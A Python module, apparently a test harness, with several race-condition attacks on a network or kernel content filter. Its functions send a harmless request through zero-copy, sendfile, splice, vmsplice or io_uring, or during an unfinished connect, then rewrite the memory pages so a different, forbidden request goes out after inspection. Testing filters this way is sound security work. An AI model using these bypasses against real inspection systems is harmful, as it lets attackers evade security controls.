"""Attacks with the memory that is sent, which may be the sender's own, and with io_uring."""

from __future__ import annotations

import contextlib
import ctypes
import errno
import mmap
import os
import platform
import socket
import threading
from pathlib import Path

import ring
from common import LIBC, PATIENCE, finish, get, hear, put, say, tcp

MSG_ZEROCOPY = 0x4000000
SO_ZEROCOPY = 60
CALLS = {
    "x86_64": {"send": 44, "sendfile": 40, "splice": 275, "vmsplice": 275},
    "aarch64": {"send": 206, "sendfile": 71, "splice": 76, "vmsplice": 76},
}
"""The system call that waits for a connection."""
UPLOAD = 50_000
"""The first call of sendfile() moves 64 KiB; what comes after it goes another way."""


def zero_copy(host: str, port: int, parcel: str, rounds: int) -> int:
    """The sender's memory is what is sent: it becomes another request once it was judged."""
    allowed, wanted = harmless(parcel), get(parcel)
    for _ in range(rounds):
        sock = tcp(host, port)
        with contextlib.suppress(PermissionError):
            sock.setsockopt(socket.SOL_SOCKET, SO_ZEROCOPY, 1)
        page = mmap.mmap(-1, mmap.PAGESIZE)
        page[: len(allowed)] = allowed
        with contextlib.suppress(OSError), memoryview(page) as view:
            sock.send(view[: len(allowed)], MSG_ZEROCOPY)
        page[: len(wanted)] = wanted
        finish(sock)
    return rounds


class Pages:
    """Memory that is a file too, and that may change while it is on its way."""

    def __init__(self, content: bytes) -> None:
        self.file = os.memfd_create("request")
        os.pwrite(self.file, content, 0)
        self.size = len(content)
        self.memory = mmap.mmap(self.file, self.size)

    def send(self, sock: socket.socket, how: str) -> None:
        """Sends the pages themselves. ``how``: "sendfile", "splice", or "vmsplice"."""
        if how == "sendfile":
            os.sendfile(sock.fileno(), self.file, 0, self.size)
            return
        source, sink = os.pipe()
        with contextlib.ExitStack() as stack:
            stack.callback(os.close, source)
            stack.callback(os.close, sink)
            if how == "splice":
                os.splice(self.file, sink, self.size, offset_src=0)
            else:
                address = ctypes.addressof(ctypes.c_char.from_buffer(self.memory))
                vector = (ctypes.c_size_t * 2)(address, self.size)
                assert LIBC.vmsplice(sink, vector, 1, 0) == self.size
            os.splice(source, sock.fileno(), self.size)

    def rewrite(self, content: bytes) -> None:
        """The end of the pages becomes this."""
        self.memory[self.size - len(content) :] = content


def harmless(parcel: str) -> bytes:
    """A request as long as the parcel's."""
    return get("/ok-" + "h" * (len(parcel) - 4))


def from_pages(host: str, port: int, parcel: str, how: str) -> str:
    """Pages become something else once they were judged, and before they are read."""
    pages = Pages(harmless(parcel))
    sock = tcp(host, port)
    say("connected")
    hear()
    with contextlib.suppress(OSError):
        pages.send(sock, how)
    say("sent")
    hear()
    pages.rewrite(get(parcel))
    say("rewritten")
    return finish(sock)


def while_connecting(host: str, port: int, parcel: str, how: str) -> str:
    """The SYN is not answered yet and a second thread waits in send(): its bytes leave as soon as
    there is a connection, by whatever the socket was when send() began. ``how``: "send" the
    parcel, or the name of a way to send pages that become the parcel, behind a small upload."""
    pages = Pages(put("/ok-body", UPLOAD) + bytes(UPLOAD) + harmless(parcel))
    with socket.socket() as sock:
        sock.setblocking(False)
        assert sock.connect_ex((host, port)) == errno.EINPROGRESS
        sock.setblocking(True)

        def send() -> None:
            with contextlib.suppress(OSError):
                if how == "send":
                    sock.send(get(parcel))
                else:
                    pages.send(sock, how)

        thread = threading.Thread(target=send)
        thread.start()
        number = CALLS[platform.machine()][how]
        inside = Path(f"/proc/self/task/{thread.native_id}/syscall")
        while not inside.read_text().startswith(f"{number} "):
            assert thread.is_alive()
        say("sending")
        thread.join(PATIENCE)
        say("sent")
        hear()
        pages.rewrite(get(parcel))
        say("rewritten")
        return finish(sock)


def by_ring(host: str, port: int, parcel: str, operation: str) -> str:
    """io_uring: from this thread, from a worker of the kernel's, and without copying."""
    sock = tcp(host, port)
    with ring.Ring() as made:
        if made.send(sock.fileno(), get("/ok-before"), operation) == -errno.EOPNOTSUPP:
            return "refused"
        sock.recv(4096)
        made.send(sock.fileno(), get(parcel), operation)
        return finish(sock)
